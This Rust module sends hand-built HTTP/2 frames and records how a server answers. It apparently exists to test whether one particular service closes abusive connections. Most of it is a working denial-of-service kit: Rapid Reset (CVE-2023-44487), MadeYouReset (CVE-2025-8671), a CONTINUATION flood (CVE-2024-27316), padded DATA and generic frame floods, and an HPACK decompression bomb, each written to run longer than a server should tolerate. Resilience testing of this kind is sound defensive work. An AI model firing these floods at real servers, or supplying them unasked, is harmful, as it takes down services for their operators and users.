//! HTTP/2 frame by frame, for what no client library would send.
//!
//! Arrives: frames as bytes. Leaves: an [`End`], what the server said and whether it closed. Floods are written and the answers
//! read at the same time, so that a flood ends because the server ends it.

use std::time::{Duration, Instant};

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;

pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;
pub const PADDED: u8 = 8;

/// Error codes of GOAWAY and RST_STREAM.
pub const ENHANCE_YOUR_CALM: u32 = 11;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What became of a connection.
#[derive(Clone, Debug, Default)]
pub struct End {
    /// By the server. Otherwise it was still open when patience ended.
    pub closed: bool,
    /// The code of its last GOAWAY.
    pub goaway: Option<u32>,
    /// HEADERS frames that came.
    pub answers: usize,
    /// RST_STREAM frames that came.
    pub resets: usize,
    pub bytes_sent: usize,
    pub took: Duration,
}

/// One frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is small").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The head of a POST of events, compressed without any table.
pub fn head(key: &str) -> Vec<u8> {
    // Static entries: 3 is `:method: POST`, 6 `:scheme: http`; names 4 `:path`, 1 `:authority`, 23 `authorization`.
    let mut block = vec![0x83, 0x86];
    block.extend(field(4, "/v1/events"));
    block.extend(field(1, "peep"));
    block.extend(field(23, &format!("Bearer {key}")));
    block
}

/// A field with the name of a static entry, never indexed.
fn field(name: u8, value: &str) -> Vec<u8> {
    let mut field = if name < 15 { vec![0x10 | name] } else { vec![0x1f, name - 15] };
    field.extend(string(value.as_bytes()));
    field
}

/// A field with a name of its own, kept in the dynamic table.
pub fn indexed_field(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0x40][..], &string(name), &string(value)].concat()
}

/// A field with a name of its own, kept nowhere.
pub fn plain_field(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0x00][..], &string(name), &string(value)].concat()
}

fn string(bytes: &[u8]) -> Vec<u8> {
    let mut string = Vec::with_capacity(bytes.len() + 4);
    match bytes.len().checked_sub(127) {
        None => string.push(bytes.len() as u8),
        Some(mut rest) => {
            string.push(127);
            while rest >= 128 {
                string.push(rest as u8 | 0x80);
                rest >>= 7;
            }
            string.push(rest as u8);
        }
    }
    string.extend_from_slice(bytes);
    string
}

/// Stream number of the client's n-th request.
pub fn stream(number: usize) -> u32 {
    u32::try_from(number).expect("few streams") * 2 + 1
}

/// Says hello with these settings, and then piece after piece until there is none or the server closes; then listens.
/// `patience` is for everything.
pub async fn converse<S>(
    stream: S,
    settings: &[(u16, u32)],
    pieces: impl IntoIterator<Item = Vec<u8>>,
    patience: Duration,
) -> End
where
    S: AsyncRead + AsyncWrite,
{
    let settings: Vec<u8> =
        settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
    let hello = [PREFACE, &frame(SETTINGS, 0, 0, &settings)].concat();
    say(stream, std::iter::once(hello).chain(pieces), patience).await
}

/// The same without a hello.
pub async fn say<S>(stream: S, pieces: impl IntoIterator<Item = Vec<u8>>, patience: Duration) -> End
where
    S: AsyncRead + AsyncWrite,
{
    let (mut reader, mut writer) = tokio::io::split(stream);
    let started = Instant::now();
    let (mut end, mut bytes_sent) = (End::default(), 0);
    let write = async {
        for piece in pieces {
            if writer.write_all(&piece).await.is_err() {
                break;
            }
            bytes_sent += piece.len();
        }
        let _ = writer.flush().await;
        // What the server still says is worth hearing after it has stopped listening.
        std::future::pending::<()>().await;
    };
    let both = async {
        tokio::select! {
            () = listen(&mut reader, &mut end) => {}
            () = write => {}
        }
    };
    let closed = timeout(patience, both).await.is_ok();
    End { closed, bytes_sent, took: started.elapsed(), ..end }
}

/// Sends and never reads.
pub async fn shout(stream: &mut TcpStream, pieces: impl IntoIterator<Item = Vec<u8>>, patience: Duration) -> End {
    let started = Instant::now();
    let mut bytes_sent = 0;
    let write = async {
        for piece in pieces {
            if stream.write_all(&piece).await.is_err() {
                break;
            }
            bytes_sent += piece.len();
        }
    };
    let closed = timeout(patience, write).await.is_ok();
    End { closed, bytes_sent, took: started.elapsed(), ..End::default() }
}

async fn listen(reader: &mut (impl AsyncRead + Unpin), end: &mut End) {
    let (mut bytes, mut chunk) = (Vec::new(), vec![0; 16 << 10]);
    while let Ok(read @ 1..) = reader.read(&mut chunk).await {
        bytes.extend_from_slice(&chunk[..read]);
        let mut at = 0;
        while let Some(head) = bytes.get(at..at + 9) {
            let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let Some(payload) = bytes.get(at + 9..at + 9 + length) else { break };
            match head[3] {
                HEADERS => end.answers += 1,
                RST_STREAM => end.resets += 1,
                GOAWAY => {
                    end.goaway = payload.get(4..8).map(|code| u32::from_be_bytes([code[0], code[1], code[2], code[3]]))
                }
                _ => {}
            }
            at += 9 + length;
        }
        bytes.drain(..at);
    }
}

/// Attacks as pieces for [`converse`]; each goes on for longer than any server should listen.
pub mod attack {
    use super::*;

    pub type Pieces = Box<dyn Iterator<Item = Vec<u8>> + Send>;

    /// What to send on a stream.
    pub type StreamError = fn(u32) -> Vec<u8>;

    /// Requests that are cancelled as soon as they are made (CVE-2023-44487).
    pub fn rapid_reset(key: &str) -> Pieces {
        let block = head(key);
        rounds(move |number| {
            let request = frame(HEADERS, END_HEADERS, stream(number), &block);
            [request, frame(RST_STREAM, 0, stream(number), &CANCEL.to_be_bytes())].concat()
        })
    }

    /// Requests on which the client then makes an error, so that the server cancels them (CVE-2025-8671).
    pub fn made_you_reset(key: &str, error: impl Fn(u32) -> Vec<u8> + Send + 'static) -> Pieces {
        let block = head(key);
        rounds(move |number| {
            let request = frame(HEADERS, END_HEADERS, stream(number), &block);
            [request, error(stream(number))].concat()
        })
    }

    /// Errors of a stream, one of them each.
    pub fn stream_errors() -> [(&'static str, StreamError); 3] {
        [
            ("window beyond its limit", |stream| frame(WINDOW_UPDATE, 0, stream, &i32::MAX.to_be_bytes())),
            ("dependency on itself", |stream| frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[9]].concat())),
            ("more data than announced", |stream| {
                let end = frame(DATA, END_STREAM, stream, b"");
                [end, frame(DATA, 0, stream, b"more")].concat()
            }),
        ]
    }

    /// A head without an end (CVE-2024-27316).
    pub fn continuation(key: &str, fields: usize) -> Pieces {
        let start = frame(HEADERS, 0, 1, &head(key));
        let block = plain_field(b"x-y", &[b'z'; 100]).repeat(fields);
        after(start, same(&frame(CONTINUATION, 0, 1, &block)))
    }

    /// A body of frames of so many bytes, padded by so many.
    pub fn data(key: &str, bytes: usize, padding: u8) -> Pieces {
        let start = frame(HEADERS, END_HEADERS, 1, &head(key));
        let (flags, mut payload) = if padding > 0 { (PADDED, vec![padding]) } else { (0, Vec::new()) };
        payload.resize(payload.len() + bytes + usize::from(padding), b' ');
        after(start, same(&frame(DATA, flags, 1, &payload)))
    }

    /// The same frame for ever.
    pub fn frames(kind: u8, stream: u32, payload: &[u8]) -> Pieces {
        same(&frame(kind, 0, stream, payload))
    }

    /// One field of 4 kB, and then heads of 16 kB that name nothing but it: 64 MB each.
    pub fn hpack_bomb() -> Pieces {
        let first = [&[0x83, 0x86, 0x84][..], &indexed_field(b"x", &[b'y'; 4_000])].concat();
        let start = frame(HEADERS, END_HEADERS | END_STREAM, 1, &first);
        // 62 is the newest entry of the dynamic table.
        let bomb = [&[0x83, 0x86, 0x84][..], &[0x80 | 62; 16_000]].concat();
        let bombs = (1..PIECES_MAX).map(move |number| frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &bomb));
        after(start, Box::new(bombs))
    }

    fn after(start: Vec<u8>, pieces: Pieces) -> Pieces {
        Box::new(std::iter::once(start).chain(pieces))
    }

    /// Pieces of a hundred rounds each.
    fn rounds(mut round: impl FnMut(usize) -> Vec<u8> + Send + 'static) -> Pieces {
        Box::new((0..PIECES_MAX).map(move |piece| (piece * 100..(piece + 1) * 100).flat_map(&mut round).collect()))
    }

    /// The same frame, made once: whoever attacks should not be busy with that.
    fn same(frame: &[u8]) -> Pieces {
        let piece = frame.repeat(100);
        Box::new((0..PIECES_MAX).map(move |_| piece.clone()))
    }

    const CANCEL: u32 = 8;
    /// A million rounds.
    const PIECES_MAX: usize = 10_000;
}
